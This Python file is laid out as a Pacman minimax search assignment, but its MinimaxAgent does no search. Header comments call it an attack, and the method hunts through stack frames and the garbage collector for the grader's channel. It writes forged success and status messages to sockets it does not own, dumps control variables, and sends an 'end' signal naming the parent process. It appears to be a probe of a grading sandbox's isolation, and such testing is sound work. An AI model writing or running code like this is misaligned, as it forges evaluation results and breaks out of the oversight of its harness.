# attack: looks for the socket over which processes are started, and speaks for whoever listens there.
# where: MinimaxAgent
import gc
import json
import os
import stat
import sys

import util
from game import Agent, Directions


def attempt(what, function, *args):
    try:
        got = function(*args)
    except Exception as error:
        print("refused:", what, repr(error)[:200], flush=True)
        return None
    print("BREACH:", what, repr(got)[:200], flush=True)
    return got


class ReflexAgent(Agent):
    def getAction(self, gameState):
        return max(gameState.getLegalActions(), key=lambda action: self.worth(gameState, action))

    def worth(self, gameState, action):
        after = gameState.generatePacmanSuccessor(action)
        here = after.getPacmanPosition()
        food = [util.manhattanDistance(here, dot) for dot in after.getFood().asList()]
        worth = after.getScore() + (1 / min(food) if food else 0) - (action == Directions.STOP)
        for ghost in after.getGhostStates():
            if ghost.scaredTimer == 0 and util.manhattanDistance(here, ghost.getPosition()) < 2:
                worth -= 200
        return worth


def scoreEvaluationFunction(currentGameState):
    return currentGameState.getScore()


class MultiAgentSearchAgent(Agent):
    def __init__(self, evalFn="scoreEvaluationFunction", depth="2"):
        self.index = 0
        self.evaluationFunction = util.lookup(evalFn, globals())
        self.depth = int(depth)


def grader():
    """The worker's own way to the grader, with the nonce of the question that is being asked."""
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if hasattr(value, "nonce") and hasattr(value, "send"):
                return value
        frame = frame.f_back
    gc.unfreeze()
    for value in gc.get_objects():
        if type(value).__name__ == "Channel":
            return value
    raise LookupError("no channel found")


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        try:
            own = {value for value in vars(grader()).values() if isinstance(value, int)}
        except LookupError:
            own = set()
        lines = [{"pid": os.getpid()}, {"status": 0, "seconds": 0.0, "peak": 0}, {"asked": []}]
        for fd in range(3, 256):
            try:
                if fd in own or not stat.S_ISSOCK(os.fstat(fd).st_mode):
                    continue
                for line in lines:
                    os.write(fd, json.dumps(line).encode() + b"\n")
                print("BREACH: a socket that is not ours to use:", fd, flush=True)
            except OSError as error:
                if error.errno != 9:
                    print("refused:", fd, repr(error), flush=True)
        frame = sys._getframe()
        while frame:  # and what the process remembers of it
            for name, value in frame.f_locals.items():
                if name in ("control", "setup", "prepared", "codes", "request", "descriptors"):
                    print("seen:", frame.f_code.co_name, name, repr(value)[:200], flush=True)
                if type(value).__name__ == "socket" and hasattr(value, "sendall"):
                    attempt("the socket in " + name, value.sendall, b'{"end": %d}\n' % os.getppid())
            frame = frame.f_back
        return gameState.getLegalActions()[0]
